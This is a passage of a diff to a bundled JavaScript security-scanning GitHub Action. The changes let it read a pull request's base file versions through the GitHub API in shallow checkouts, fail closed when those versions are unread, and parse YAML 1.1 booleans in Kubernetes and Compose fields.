@@ -4597,8 +4597,13 @@ class BaseWorkspace extends workspace_workspace/* Workspace */.aR {
     headOnly;
     /** The links of this tree resolved here, and the content each shows (see {@link readLink}). */
     linkContents = new Map();
+    /**
+     * Where this tree may not be the base (some base versions were not read): findings there cannot be
+     * told existing, and count as new (see `judgeChange`). Undefined: the base is complete, as from git.
+     */
+    unknown;
     constructor(head, files, blobs, options = {}) {
-        const { changed, renamed, differs, ...selection } = options;
+        const { changed, renamed, differs, unknown, ...selection } = options;
         // Its rules' scope is never reported (the base run only tells new findings from old): no recording.
         super(head.root, {
             ...selection,
@@ -4613,6 +4618,7 @@ class BaseWorkspace extends workspace_workspace/* Workspace */.aR {
         this.listedBlobs = new Map([...blobs].filter(([file]) => this.has(file)));
         this.changed = changed ?? { head: [], base: [...blobs.keys()] };
         this.renamed = renamed ?? new Map();
+        this.unknown = unknown;
         this.differs = {
             ...(differs ?? { paths: new Set([...this.changed.head, ...this.changed.base]), listing: true }),
             screened: (file, name) => this.screenedOnEitherSide(file, name),
@@ -4856,6 +4862,89 @@ async function buildBaseWorkspace(head, baseline, options = {}) {
         presence: new Set([...removed, ...deleted]),
     };
     return new BaseWorkspace(head, sorted, blobs, { ...selection, changed, renamed, differs });
+}
+/**
+ * The base tree of `head` from the change's file list and the base versions read ahead, as
+ * {@link buildBaseWorkspace} builds it from git: the head with the change undone. What was not read
+ * is not guessed: a changed file whose base was not read is left out of the base (its findings are
+ * new), and {@link BaseWorkspace.unknown} says where findings cannot be told existing: in such a
+ * file, in a file a partial list does not name, about no file when anything is unknown, and
+ * anywhere when a deleted file's base was not read (what it held could have guarded any file).
+ */
+function fetchedBaseWorkspace(head, fetched, selection = {}) {
+    const removed = [];
+    const deleted = [];
+    const renamed = new Map();
+    const blobs = new Map();
+    const wanted = [];
+    const unreadHere = new Set();
+    let unreadDeletion = false;
+    for (const f of fetched.files) {
+        // A copy leaves its source in place: like git's, it is new (see parseRawAgainstHead).
+        const from = f.status === 'added' || f.status === 'copied'
+            ? undefined
+            : f.status === 'renamed'
+                ? f.previousPath
+                : f.path;
+        if (from !== undefined && fetched.unread.has(from)) {
+            if (f.status === 'deleted')
+                unreadDeletion = true;
+            else {
+                unreadHere.add(f.path);
+                removed.push(f.path);
+            }
+            continue;
+        }
+        const blob = from === undefined ? undefined : fetched.blobs.get(from);
+        if (!blob) {
+            // Not in the base commit: the change adds it.
+            if (f.status !== 'deleted')
+                removed.push(f.path);
+            continue;
+        }
+        wanted.push({ path: f.path, mode: blob.kind === 'symlink' ? '120000' : '100644', oid: '' });
+        blobs.set(f.path, blob.kind === 'symlink'
+            ? { kind: 'symlink', target: blob.target }
+            : blobContent(blob.bytes, blob.bytes.length, head.maxFileBytes));
+        if (f.status === 'deleted')
+            deleted.push(f.path);
+        if (f.status === 'renamed' && from !== f.path)
+            renamed.set(f.path, from);
+    }
+    const sorted = baseList(head.indexed, removed, wanted);
+    const changed = {
+        head: [...new Set([...removed, ...wanted.map((e) => e.path)])],
+        base: wanted.map((e) => e.path),
+    };
+    const differs = {
+        paths: new Set([...removed, ...wanted.map((e) => e.path)]),
+        listing: removed.length > 0 || deleted.length > 0,
+        presence: new Set([...removed, ...deleted]),
+    };
+    const listed = new Set(fetched.files.map((f) => f.path));
+    const partial = fetched.partial;
+    const unknown = unreadDeletion || unreadHere.size > 0 || partial
+        ? {
+            covers: (p) => unreadDeletion || p === undefined || unreadHere.has(p) || (partial && !listed.has(p)),
+            reason: [
+                unreadHere.size + (unreadDeletion ? 1 : 0) > 0
+                    ? `the base of ${fetched.unread.size} changed file${fetched.unread.size === 1 ? ' was' : 's were'} not read${fetched.unreadReason ? ` (${fetched.unreadReason})` : ''}${unreadDeletion ? ', a deleted one among them: every finding counts as new' : ': findings in them count as new'}`
+                    : '',
+                partial
+                    ? 'the list of changed files is partial: findings in files it does not name count as new'
+                    : '',
+            ]
+                .filter(Boolean)
+                .join('; '),
+        }
+        : undefined;
+    return new BaseWorkspace(head, sorted, blobs, {
+        ...selection,
+        changed,
+        renamed,
+        differs,
+        ...(unknown ? { unknown } : {}),
+    });
 }
 /**
  * The base's file list: the head's (sorted already) without the files the change added, with the
@@ -6030,10 +6119,12 @@ function unsureFindings(ruleId, n, minConfidence) {
  * trigger that now hands outsiders a writable token turns an injection that was harmless on
  * `pull_request` into a critical one), and a gate that judged it existing would let the change
  * through on the strength of what the base did not risk.
- * When the base version cannot be read (a shallow checkout), the diff decides instead: a finding on a
- * line the pull request adds is new, one elsewhere is existing, and one the diff cannot place (about
- * the repository as a whole, or in a binary file) counts as new, so missing history never lets a
- * change through unchecked.
+ * In a shallow checkout (no base commit in git), the base tree is built the same way from the base
+ * versions of the changed files read through the API (`ChangeOptions.fetchedBase`); where they were
+ * not all read, findings that may differ on the real base count as new (`BaseWorkspace.unknown`).
+ * Only without either does the diff decide: a finding on a line the pull request adds is new, one
+ * elsewhere is existing, and one the diff cannot place (about the repository as a whole, or in a
+ * binary file) counts as new.
  */
 
 
@@ -6096,6 +6187,23 @@ function markNewByDiff(findings, diff, exempt = new Set()) {
     }
     return summary;
 }
+/**
+ * Fails closed where the base tree is not known to be the base (see `BaseWorkspace.unknown`): a
+ * finding there that the base comparison called existing counts as new (about no file: unplaced).
+ */
+function markUnknownNew(findings, unknown, exempt, counts) {
+    const out = { ...counts };
+    for (const f of findings) {
+        if (f.isNew !== false || exempt.has(f.ruleId) || !unknown.covers(f.location?.path))
+            continue;
+        f.isNew = true;
+        out.new += 1;
+        out.existing -= 1;
+        if (!f.location)
+            out.unplaced += 1;
+    }
+    return out;
+}
 /** Whether a finding counts against a gate of this scope (unjudged findings always count). */
 function inGateScope(f, scope) {
     return scope === 'all' || f.isNew !== false;
@@ -6117,10 +6225,20 @@ async function judgeChange(findings, options, run) {
                 ...(run.untracked ? { untracked: run.untracked } : {}),
                 worktree: options.worktree === true,
             })
-            : undefined;
-    if (base && options.baseline) {
+            : options.fetchedBase
+                ? fetchedBaseWorkspace(run.head, options.fetchedBase, {
+                    include: run.include,
+                    exclude: run.exclude,
+                })
+                : undefined;
+    const commit = options.baseline ?? options.fetchedBase?.commit;
+    if (base && commit) {
         counts = markNewByBase(findings, await run.evaluateBase(base), run.exempt);
-        judged = { method: 'base-tree', commit: options.baseline };
+        judged = { method: 'base-tree', commit, ...(options.baseline ? {} : { source: 'api' }) };
+        if (base.unknown) {
+            counts = markUnknownNew(findings, base.unknown, run.exempt, counts);
+            judged = { ...judged, incomplete: base.unknown.reason };
+        }
     }
     else if (options.diff) {
         counts = markNewByDiff(findings, options.diff, run.exempt);
@@ -6355,8 +6473,8 @@ function changeFingerprints(problems, changeRules) {
     return out;
 }
 
-// EXTERNAL MODULE: ./lib/core/evaluators/registry.js + 201 modules
-var registry = __nccwpck_require__(8020);
+// EXTERNAL MODULE: ./lib/core/evaluators/registry.js + 202 modules
+var registry = __nccwpck_require__(6614);
 ;// CONCATENATED MODULE: ./lib/core/file-cache.js
 /**
  * The results cache: what the per-file rules found in each tracked file, keyed by the file's path
@@ -8462,11 +8580,18 @@ async function scanScope(workspace, change, selection, diff, log, untracked) {
             ...(diff ? { diff } : {}),
             ...(untracked ? { untracked } : {}),
         })) ?? null)
-        : undefined;
-    const paths = base ? base.changed.head : change.diff?.diff.truncated ? undefined : change.diff?.paths();
+        : change.fetchedBase
+            ? fetchedBaseWorkspace(workspace, change.fetchedBase, selection)
+            : undefined;
+    // A partial list of the changed files (the API's) leaves unlisted changes unknown: every file is scanned.
+    const paths = base && !change.fetchedBase?.partial
+        ? base.changed.head
+        : change.diff?.diff.truncated
+            ? undefined
+            : change.diff?.paths();
     if (!paths) {
         (0,heap/* heapForCheck */.w)('tree');
-        log.info(change.diff?.diff.truncated && !base
+        log.info(change.diff?.diff.truncated && (!base || change.fetchedBase)
             ? 'scanning every file: the list of the files the change touches is partial'
             : 'scanning every file: the files the change touches are unknown');
         return base === undefined ? {} : { base };
@@ -8538,7 +8663,8 @@ async function evaluateHead(options, policy, scope, log) {
     const run = new RuleRun(config, workspace, context, log, runAccess(options), scan.head, threads);
     // On a change with a base tree, what the rules ask is recorded: the base need not evaluate again a
     // rule the change does not touch (see phases/comparison.ts).
-    if ((options.change?.baseline && options.change.incremental !== false) || options.collectBaseResults) {
+    if (((options.change?.baseline || options.change?.fetchedBase) && options.change.incremental !== false) ||
+        options.collectBaseResults) {
         run.recordInputs();
     }
     // Results kept for later changes are kept by subject where a rule names its subjects.
@@ -9305,7 +9431,7 @@ async function compareWithBase(options, policy, scope, evaluation, log) {
     });
     addReusedIgnores(policy, evaluation, changeRules);
     if (change.judged.method !== 'none') {
-        log.info(`new versus existing (${change.judged.method === 'base-tree' ? `base tree ${change.judged.commit.slice(0, 12)}` : `changed lines: ${change.judged.reason}`}): ${change.counts.new} new${change.counts.raised > 0 ? ` (${change.counts.raised} of them graded higher than on the base)` : ''}, ${change.counts.existing} existing`);
+        log.info(`new versus existing (${change.judged.method === 'base-tree' ? `base tree ${change.judged.commit.slice(0, 12)}${change.judged.source === 'api' ? ', its changed files read through the GitHub API' : ''}${change.judged.incomplete ? `; ${change.judged.incomplete}` : ''}` : `changed lines: ${change.judged.reason}`}): ${change.counts.new} new${change.counts.raised > 0 ? ` (${change.counts.raised} of them graded higher than on the base)` : ''}, ${change.counts.existing} existing`);
     }
     return change;
 }
@@ -9741,15 +9867,6 @@ function approval_describe(err) {
 }
 
 ;// CONCATENATED MODULE: ./lib/action/base-commit.js
-/**
- * The pull request's base commit as files, for what must be judged by the base rather than by the
- * change: the policy (config, declarations, custom rules), the workflow that runs the gate, and the
- * base version of files whose inline ignores may be new. From git objects when the checkout has the
- * commit; else (a shallow checkout) from the GitHub API's git database: one request for the commit's
- * tree, then one per file actually needed. Either way a synchronous {@link TreeReader}, as the engine
- * reads policy, over files fetched ahead.
- */
-
 
 
 
@@ -9757,6 +9874,17 @@ function approval_describe(err) {
 
 /** Most files read through the API for one run (policy files, rule files, files with ignores). */
 const MAX_API_FILES = 200;
+/**
+ * Most changed files whose base version is read through the API to tell new findings from existing
+ * ones, a request each, apart from the policy's cap: a workflow's GITHUB_TOKEN may make 1,000
+ * requests an hour in a repository, shared with every other run and the rest of this one. A change
+ * beyond it is judged with the rest unread, which fails closed (see `fetchedBaseWorkspace`).
+ */
+const MAX_BASE_FILES = 300;
+/** Most bytes of those base versions in all (each comes base64-encoded in one answer, a third larger). */
+const MAX_BASE_BYTES = 32 * 1024 * 1024;
+/** Base versions read at once. */
+const BASE_READS_AT_ONCE = 4;
 /**
  * The base commit through git when the checkout has it, else through the API (when there is a
  * client); undefined when neither can read it. An API failure other than "no such commit" is
@@ -9785,6 +9913,7 @@ async function readBaseCommit(options) {
                 commit: options.commit,
                 top: tree.view(''),
                 root: tree.view(options.needs.prefix),
+                readChanged: (paths, bounds) => tree.readChanged(paths, bounds),
             },
         };
     }
@@ -9799,6 +9928,8 @@ class ApiTree {
     commit;
     entries;
     blobs = new Map();
+    /** Every blob's bytes read so far, by path: a file the policy and the change both need is read once. */
+    raw = new Map();
     fetched = 0;
     constructor(client, commit, entries) {
         this.client = client;
@@ -9908,14 +10039,96 @@ class ApiTree {
             return;
         if (entry.size > MAX_BLOB_BYTES)
             return;
-        if (++this.fetched > MAX_API_FILES)
+        if (!this.raw.has(path) && ++this.fetched > MAX_API_FILES)
             throw new github/* ApiError */.hD(`more than ${MAX_API_FILES} policy files to read`, 0);
-        const { data } = await this.client.request('GET /repos/{owner}/{repo}/git/blobs/{file_sha}', { file_sha: entry.sha });
-        const text = (0,github_api/* base64Content */.BD)(data);
-        if (text === undefined)
-            throw new github/* ApiError */.hD(`the blob of ${path} came without its content`, 0);
+        const bytes = await this.bytes(path, entry);
+        let text = bytes.toString('utf8');
+        if (text.charCodeAt(0) === 0xfeff)
+            text = text.slice(1);
         this.blobs.set(path, { kind: 'text', text });
     }
+    /** A blob's bytes (`git/blobs/{sha}`), read once per path. */
+    async bytes(path, entry) {
+        const known = this.raw.get(path);
+        if (known)
+            return known;
+        const { data } = await this.client.request('GET /repos/{owner}/{repo}/git/blobs/{file_sha}', { file_sha: entry.sha });
+        const bytes = base64Bytes(data);
+        if (bytes === undefined)
+            throw new github/* ApiError */.hD(`the blob of ${path} came without its content`, 0);
+        this.raw.set(path, bytes);
+        return bytes;
+    }
+    /**
+     * Reads the base versions of a change's files (paths from the top), for the base tree that tells
+     * new findings from existing ones: one request per file, within `maxFiles` files and `maxBytes`
+     * bytes (the tree listing gives each size), `first` files first. A path the commit lacks is left
+     * out (the change adds it); one it has but that was not read (over a bound, larger than a file is
+     * read, or the API refused) is in `unread`, and the judgement fails closed for it. Never throws.
+     */
+    async readChanged(paths, bounds = {}) {
+        const maxFiles = bounds.maxFiles ?? MAX_BASE_FILES;
+        const maxBytes = bounds.maxBytes ?? MAX_BASE_BYTES;
+        const maxFileBytes = bounds.maxFileBytes ?? MAX_BLOB_BYTES;
+        const out = { blobs: new Map(), unread: new Set(), requests: 0 };
+        const reasons = new Set();
+        const queue = [];
+        let files = 0;
+        let bytes = 0;
+        for (const p of new Set(paths)) {
+            const entry = this.entries.get(p);
+            // Not a file of the commit (absent, a directory, a submodule): nothing to read.
+            if (entry?.type !== 'blob')
+                continue;
+            if (entry.mode !== '120000' && entry.size > maxFileBytes) {
+                out.unread.add(p);
+                reasons.add(`larger than ${mebibytes(maxFileBytes)}`);
+            }
+            else if (!this.raw.has(p) && (files + 1 > maxFiles || bytes + entry.size > maxBytes)) {
+                out.unread.add(p);
+                reasons.add(`over the bound of ${maxFiles} files and ${mebibytes(maxBytes)} read through the API`);
+            }
+            else {
+                if (!this.raw.has(p)) {
+                    files += 1;
+                    bytes += entry.size;
+                }
+                queue.push({ path: p, entry });
+            }
+        }
+        const work = async () => {
+            for (let next = queue.shift(); next; next = queue.shift()) {
+                const { path, entry } = next;
+                try {
+                    if (!this.raw.has(path))
+                        out.requests += 1;
+                    const content = await this.bytes(path, entry);
+                    out.blobs.set(path, entry.mode === '120000'
+                        ? { kind: 'symlink', target: content.toString('utf8') }
+                        : { kind: 'file', bytes: content });
+                }
+                catch (err) {
+                    out.unread.add(path);
+                    const status = err instanceof github/* ApiError */.hD && err.status > 0 ? `HTTP ${err.status}: ` : '';
+                    reasons.add(`the API did not give it (${status}${err.message})`);
+                }
+            }
+        };
+        await Promise.all(Array.from({ length: BASE_READS_AT_ONCE }, work));
+        if (reasons.size > 0)
+            out.reason = [...reasons].join('; ');
+        return out;
+    }
+}
+/** The bytes of a blob answer (`content` in base64), or undefined. */
+function base64Bytes(data) {
+    const d = data;
+    if (!d || typeof d.content !== 'string' || d.encoding !== 'base64')
+        return undefined;
+    return Buffer.from(d.content, 'base64');
+}
+function mebibytes(bytes) {
+    return `${Math.round((bytes / (1024 * 1024)) * 10) / 10} MiB`;
 }
 
 // EXTERNAL MODULE: ./lib/action/commands.js
@@ -10354,7 +10567,7 @@ async function preparePullRequest(options) {
         run.index = new DiffIndex(run.diff, prefix);
     run.baseline = await resolveBaseline(root, info.base.sha, info.head.sha);
     if (!run.baseline) {
-        notes.push('the base commit is not in the checkout (use actions/checkout with fetch-depth: 0): new findings are judged from the changed lines, and findings about the repository as a whole count as new');
+        notes.push('the base commit is not in the checkout (use actions/checkout with fetch-depth: 0): the base versions of the changed files are read through the GitHub API to judge new findings; without them (no token, or the API refused), new findings are judged from the changed lines, and findings about the repository as a whole count as new');
     }
     return run;
 }
@@ -14302,6 +14515,8 @@ async function gateIntegrity(settings, env, pr, client, eventName) {
     const out = { gateChanges: [] };
     if (base?.source === 'api')
         out.baseTree = base.root;
+    if (base?.readChanged && !pr.baseline && pr.diff)
+        out.fetchedBase = await readChangedBase(pr, base);
     if (base && step) {
         let baseConfig;
         try {
@@ -14332,6 +14547,45 @@ async function gateIntegrity(settings, env, pr, client, eventName) {
         };
     }
     return out;
+}
+/**
+ * The base versions of the pull request's changed files under the checked root, read through the API
+ * (a request each, within its bounds; deleted files first, since a deletion not read leaves every
+ * finding unknown), so that a shallow checkout judges new findings by the base tree as git would.
+ */
+async function readChangedBase(pr, base) {
+    const { prefix } = pr;
+    const files = [];
+    for (const f of pr.diff?.files ?? []) {
+        if (!f.path.startsWith(prefix))
+            continue;
+        const previous = f.previousPath?.startsWith(prefix) ? f.previousPath.slice(prefix.length) : undefined;
+        files.push({
+            path: f.path.slice(prefix.length),
+            status: f.status,
+            ...(f.status === 'renamed' && previous !== undefined ? { previousPath: previous } : {}),
+        });
+    }
+    const order = (s) => (s === 'deleted' ? 0 : s === 'renamed' ? 1 : 2);
+    const wanted = files
+        .filter((f) => f.status !== 'added' && f.status !== 'copied')
+        .sort((a, b) => order(a.status) - order(b.status))
+        .map((f) => (f.status === 'renamed' ? f.previousPath : f.path))
+        .filter((p) => p !== undefined);
+    const read = await base.readChanged(wanted.map((p) => prefix + p));
+    const blobs = new Map();
+    for (const [p, blob] of read.blobs)
+        blobs.set(p.slice(prefix.length), blob);
+    const unread = new Set([...read.unread].map((p) => p.slice(prefix.length)));
+    pr.notes.push(`the base versions of ${read.blobs.size} changed file${read.blobs.size === 1 ? '' : 's'} were read through the GitHub API (${read.requests} request${read.requests === 1 ? '' : 's'}): new findings are judged by the base tree${unread.size > 0 ? `; ${unread.size} could not be read (${read.reason ?? 'unknown'}), and findings they may affect count as new` : ''}`);
+    return {
+        commit: base.commit,
+        files,
+        blobs,
+        unread,
+        ...(read.reason ? { unreadReason: read.reason } : {}),
+        partial: pr.diff?.truncated === true,
+    };
 }
 /** Changed files (root-relative) whose head version holds an inline ignore: their base is needed. */
 function filesWithIgnores(root, pr) {
@@ -14386,6 +14640,7 @@ function check(settings, logger, { event, scope, pr, client, threads, integrity,
             ...(settings.scan ? { scan: settings.scan } : {}),
             ...(pr?.baseline ? { baseline: pr.baseline } : {}),
             ...(pr?.index ? { diff: pr.index } : {}),
+            ...(integrity?.fetchedBase ? { fetchedBase: integrity.fetchedBase } : {}),
         },
         // One answer per endpoint per run, shared by the rules that read it (the API budget relies on it).
         ...(client ? { github: (0,github_api/* cachedGitHubApi */.QL)(client.api) } : {}),
@@ -15174,6 +15429,15 @@ function vendoredRelease(workspace, path) {
  * deployables: a privileged workload or an open firewall in it keeps its confidence.
  */
 const VENDORED_RELEASE_MAX_SEVERITY = 'medium';
+/**
+ * A reference from one file of the repository to a path (a file or a folder) it uses, and what kind
+ * of file names it: a kustomization (its resources, bases, components), a Terraform module call, a
+ * compose file (include, extends, build), or a workflow or action (see {@link pathUses}).
+ */
+/** The Dockerfile a build context (`ctx`) builds with (`dockerfile`, relative to the context). */
+function buildDockerfile(ctx, dockerfile) {
+    return external_node_path_.posix.normalize(external_node_path_.posix.join(ctx, dockerfile));
+}
 /** A relative path as written in `from` (`./lib/app`, `../x`), resolved from its folder; undefined outside the tree. */
 function resolveFrom(from, ref, base = external_node_path_.posix.dirname(from)) {
     if (ref === '' || /^[a-z][\w+.-]*:|^\/|[$*{]/i.test(ref))
@@ -15195,25 +15459,27 @@ const TERRAFORM_LOCAL_SOURCE = /^[ \t]*source[ \t]*=[ \t]*"(\.{1,2}\/[^"]*)"/gm;
 function pathUses(workspace) {
     return workspace.memo('confidence-path-uses', '', () => {
         const uses = [];
-        const add = (from, ref, base) => {
+        const add = (from, ref, by, base) => {
             if (typeof ref !== 'string')
                 return;
             const to = resolveFrom(from, ref.trim(), base);
             if (to)
-                uses.push({ from, to });
+                uses.push({ from, to, by });
         };
         for (const [to, kustomizations] of (0,k8s_files/* kustomizeListings */.jZ)(workspace)) {
             for (const from of kustomizations)
-                uses.push({ from, to });
+                uses.push({ from, to, by: 'kustomize' });
         }
         for (const file of workspace.glob(terraform/* TERRAFORM_GLOBS */.dz)) {
             const text = workspace.text(file);
             if (text === undefined || !text.includes('source'))
                 continue;
             for (const m of text.matchAll(TERRAFORM_LOCAL_SOURCE))
-                add(file, m[1]);
+                add(file, m[1], 'terraform');
         }
-        uses.push(...(0,compose/* composeReferences */.rd)(workspace));
+        for (const { from, to, dockerfile } of (0,compose/* composeReferences */.rd)(workspace)) {
+            uses.push({ from, to, by: 'compose', ...(dockerfile ? { dockerfile } : {}) });
+        }
         for (const file of workspace.glob([...workflow/* WORKFLOW_GLOBS */.iK, ...workflow/* ACTION_GLOBS */.Hy])) {
             const text = workspace.text(file);
             if (text === undefined)
@@ -15223,29 +15489,49 @@ function pathUses(workspace) {
                 const ref = m[2];
                 if (m[1] === 'uses' && !ref.startsWith('./'))
                     continue;
-                add(file, ref, '');
+                add(file, ref, 'workflow', '');
             }
         }
         return uses;
     });
 }
 /**
- * Whether the repository uses `file`, which lies in the vendored release `folder`, from outside it:
- * a file outside the folder names it or a folder holding it (a root kustomization lists
- * `lib/app-1.2.3/pod.yaml`, a Terraform module's `source = "./lib/app-1.2.3"`, a compose file
- * includes its compose file), or names a file of the folder that does, and so on.
+ * Which files the repository uses from outside the paths `inside` takes, computed once for them: a
+ * file outside names a file or a folder holding it (a root kustomization lists `lib/app-1.2.3/pod.yaml`,
+ * a Terraform module's `source = "./examples/sg"`, a compose file includes another), or names a file
+ * inside that does, and so on (a root kustomization lists `fixtures/`, whose kustomization lists
+ * `pod.yaml`). A use of the whole tree (`source = "../.."` in an example) names no file of its own.
+ * `uses` chooses the references that count.
+ */
+function usedFrom(uses, inside) {
+    const used = new Set();
+    const covered = (file) => {
+        for (let p = file;; p = external_node_path_.posix.dirname(p)) {
+            if (used.has(p))
+                return true;
+            if (!p.includes('/'))
+                return false;
+        }
+    };
+    const named = uses.filter((u) => u.to !== '');
+    for (let grown = true; grown;) {
+        grown = false;
+        for (const u of named) {
+            if (used.has(u.to) || (inside(u.from) && !covered(u.from)))
+                continue;
+            used.add(u.to);
+            grown = true;
+        }
+    }
+    return covered;
+}
+/**
+ * Whether the repository uses `file`, which lies in the vendored release `folder`, from outside it
+ * (see {@link usedFrom}; any reference counts, a workflow's build context too).
  */
 function usedFromOutside(workspace, folder, file) {
-    const uses = pathUses(workspace);
     const inFolder = (p) => p === folder || p.startsWith(`${folder}/`);
-    const seen = new Set();
-    const used = (target) => {
-        if (seen.has(target))
-            return false;
-        seen.add(target);
-        return uses.some((u) => (u.to === target || target.startsWith(`${u.to}/`)) &&
-            (u.to === '' ? false : !inFolder(u.from) || used(u.from)));
-    };
+    const used = workspace.memo('confidence-used-from-outside', folder, () => usedFrom(pathUses(workspace), inFolder));
     return used(file);
 }
 /** The metadata file of an action (`uses: ./path/to/action` runs the one in that folder). */
@@ -15363,12 +15649,32 @@ function testPathContext(testPaths, workspace) {
         const folder = releaseOf(path);
         return folder === undefined ? undefined : VENDORED_RELEASE_REASON(folder);
     };
+    // A file in a test path that the repository deploys from outside the test paths is no test
+    // material, whatever its folder is named: a root kustomization lists `fixtures/pod.yaml`, a root
+    // module calls `source = "./examples/sg"`, a root compose file includes `examples/compose.yaml`.
+    // Only what deploys counts (kustomizations, Terraform module calls, compose files): a workflow
+    // that runs the tests in `test/` (`working-directory: test/e2e`) uses them as tests, and so does a
+    // compose file named for a test, CI or development stack (`docker-compose.test.yml` building
+    // `tests/`), which the compose rules judge no deployment either.
+    let deployed;
+    const deployedFromOutside = (path) => {
+        if (workspace === undefined)
+            return false;
+        // A build context deploys the Dockerfile it builds with, not every file of its folder (a test
+        // image's Dockerfile under `app/tests/` beside the app's own).
+        deployed ??= usedFrom(pathUses(workspace)
+            .filter((u) => u.by !== 'workflow' && !(u.by === 'compose' && (0,compose/* pathNotDeployed */.fr)(u.from) !== undefined))
+            .map((u) => (u.dockerfile === undefined ? u : { ...u, to: buildDockerfile(u.to, u.dockerfile) })), matcher);
+        return deployed(path);
+    };
     // A file usually holds many findings: its path is matched once.
     const known = new Map();
     const reasonFor = (path) => {
         if (known.has(path))
             return known.get(path);
-        const tested = matcher(path) && (!byCiStack(path) || ciStack(path) || otherTestPath(path));
+        const tested = matcher(path) &&
+            (!byCiStack(path) || ciStack(path) || otherTestPath(path)) &&
+            !deployedFromOutside(path);
         const reason = tested
             ? byKeyName(path)
                 ? TEST_KEY_NAME_REASON
@@ -15466,7 +15772,7 @@ function hiddenReasons(h) {
 /* harmony export */   tn: () => (/* binding */ runEvaluator)
 /* harmony export */ });
 /* unused harmony export recordingApi */
-/* harmony import */ var _evaluators_registry_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8020);
+/* harmony import */ var _evaluators_registry_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6614);
 /* harmony import */ var _github_api_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(6813);
 /**
  * One evaluator call, the single place where a rule meets the tree: a rule that throws becomes its
@@ -15927,7 +16233,7 @@ function policyKind(kind) {
 
 /***/ }),
 
-/***/ 8020:
+/***/ 6614:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -15942,6 +16248,64 @@ __nccwpck_require__.d(__webpack_exports__, {
 var compose = __nccwpck_require__(2028);
 // EXTERNAL MODULE: ./lib/core/evaluators/types.js
 var types = __nccwpck_require__(3703);
+;// CONCATENATED MODULE: ./lib/core/parsers/yaml-boolean.js
+/**
+ * How the programs that consume a YAML file read a boolean field, where that differs from this
+ * project's YAML 1.2 reader (js-yaml, core schema), which reads only `true`/`false` (any of three
+ * cases) as booleans and keeps `yes`, `on`, `y` as strings. A rule that asks "is this field true"
+ * must ask it as the consumer does, or `privileged: yes` would pass as a string.
+ */
+/** go-yaml v2's YAML 1.1 booleans (resolve.go): exactly these spellings, no others. */
+const YAML11_TRUE = new Set(['y', 'Y', 'yes', 'Yes', 'YES', 'on', 'On', 'ON', 'true', 'True', 'TRUE']);
+const YAML11_FALSE = new Set(['n', 'N', 'no', 'No', 'NO', 'off', 'Off', 'OFF', 'false', 'False', 'FALSE']);
+/**
+ * A boolean field of a Kubernetes manifest as Kubernetes reads it, or undefined when it is no
+ * boolean. kubectl, Helm and the API machinery read YAML through sigs.k8s.io/yaml, which resolves
+ * scalars with go-yaml v2's YAML 1.1 rules: a plain (unquoted, untagged) `yes`, `on`, `y` is true and
+ * `no`, `off`, `n` false. A quoted or tagged `"yes"` stays a string, which the API server's strict
+ * decoding rejects for a bool field (the object is not applied): no boolean. A value whose style is
+ * not known (brought by a merge key) is read as plain, so a finding never rests on the guess that
+ * it was quoted.
+ */
+function kubernetesBoolean(document, pointer, value) {
+    if (typeof value === 'boolean')
+        return value;
+    if (typeof value !== 'string')
+        return undefined;
+    const word = YAML11_TRUE.has(value) ? true : YAML11_FALSE.has(value) ? false : undefined;
+    if (word === undefined)
+        return undefined;
+    return document.plainScalar(pointer) === false ? undefined : word;
+}
+/**
+ * A boolean field of a Compose file as Docker Compose reads it, or undefined when it is no boolean
+ * (an interpolated `${PRIVILEGED}` is not judged). compose-go casts the string of a boolean field
+ * with `toBoolean`: `true`, `y`, `yes`, `on` in any case are true and `false`, `n`, `no`, `off`
+ * false, quoted or not (its YAML reader keeps them strings; the cast, not the YAML, decides).
+ */
+function composeBoolean(value) {
+    if (typeof value === 'boolean')
+        return value;
+    if (typeof value !== 'string')
+        return undefined;
+    switch (value.trim().toLowerCase()) {
+        case 'true':
+        case 'y':
+        case 'yes':
+        case 'on':
+            return true;
+        case 'false':
+        case 'n':
+        case 'no':
+        case 'off':
+            return false;
+        default:
+            return undefined;
+    }
+}
+
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
 // EXTERNAL MODULE: ./lib/core/confidence.js + 1 modules
 var confidence = __nccwpck_require__(3965);
 // EXTERNAL MODULE: ./lib/core/location.js
@@ -16309,7 +16673,15 @@ function k8s_isMap(value) {
     return typeof value === 'object' && value !== null && !Array.isArray(value);
 }
 
+// EXTERNAL MODULE: ./lib/core/parsers/workflow.js
+var parsers_workflow = __nccwpck_require__(8539);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/shared.js
+
+
+
+
+
+
 
 
 
@@ -16334,7 +16706,8 @@ function examineObjects(workspace, subjects) {
  */
 function examinedPods(workspace) {
     const pods = podSpecs(workspace);
-    // Before the scope narrows: autoscalers and kustomizations only decide how a pod is judged.
+    // Before the scope narrows: autoscalers, kustomizations and the scripts that apply a manifest
+    // only decide how a pod is judged.
     const idle = idleWorkloads(workspace);
     for (const pod of pods) {
         const why = idle.get(pod.object);
@@ -16343,6 +16716,7 @@ function examinedPods(workspace) {
         else
             IDLE.set(pod.object, why);
     }
+    noteKindFixtures(workspace, pods.map((pod) => pod.object));
     examineObjects(workspace, pods);
     return pods;
 }
@@ -16398,11 +16772,230 @@ function kustomizeReplicas(ws) {
  */
 const IDLE = new WeakMap();
 /** Why a finding on a workload scaled to zero has low confidence; part of its message. */
-const IDLE_NOTE = 'the workload is scaled to zero (replicas: 0) and no autoscaler or kustomization in the repository scales it: none of its pods runs until it is scaled up, when the gap is real';
+const IDLE_NOTE = 'the workload is scaled to zero (replicas: 0) and no autoscaler, kustomization or command in the repository scales it: none of its pods runs until it is scaled up, when the gap is real';
+/**
+ * A kustomize target without a name: by an equality label selector (`app=web,tier in ...` is not
+ * one) and perhaps a kind, it scales the workloads it selects; any other target may scale any.
+ */
+function addTargetSelector(scaled, target) {
+    const selector = target.labelSelector;
+    const kind = typeof target.kind === 'string' ? { kind: target.kind } : {};
+    if (selector === undefined && target.annotationSelector === undefined) {
+        // By kind alone (or nothing): every workload of that kind.
+        scaled.selectors.push({ ...kind, labels: new Map() });
+        return;
+    }
+    if (typeof selector !== 'string' || selector.trim() === '' || target.annotationSelector !== undefined) {
+        scaled.all = true;
+        return;
+    }
+    const labels = new Map();
+    for (const term of selector.split(',')) {
